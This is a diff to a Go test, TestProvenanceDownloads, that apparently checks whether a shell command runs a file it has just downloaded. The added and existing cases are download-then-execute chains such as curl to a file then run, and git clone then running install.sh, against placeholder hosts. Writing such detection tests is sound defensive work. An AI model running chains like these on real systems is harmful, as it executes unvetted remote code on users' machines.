@@ -21,6 +21,8 @@ func TestProvenanceDownloads(t *testing.T) {
 		{"curl -o x.sh https://x/a && mv x.sh /tmp/y && /tmp/y", "/tmp/y", true},
 		{"curl -o x.sh https://x/a && ln -s x.sh y && ./y", "./y", true},
 		{"git clone https://x/y.git d && cp -r d /tmp/e && /tmp/e/install.sh", "/tmp/e/install.sh", true},
+		{"git -C /tmp clone https://x/y.git && /tmp/y/install.sh", "/tmp/y/install.sh", true},
+		{"git -C /tmp clone https://x/y.git && ./y/install.sh", "./y/install.sh", false},
 		// Unknown or other provenance: as before.
 		{"git clone https://x/y.git d && ./install.sh", "./install.sh", false},
 		{"wget https://x/a.sh && cd /tmp && ./a.sh", "./a.sh", false}, // another directory
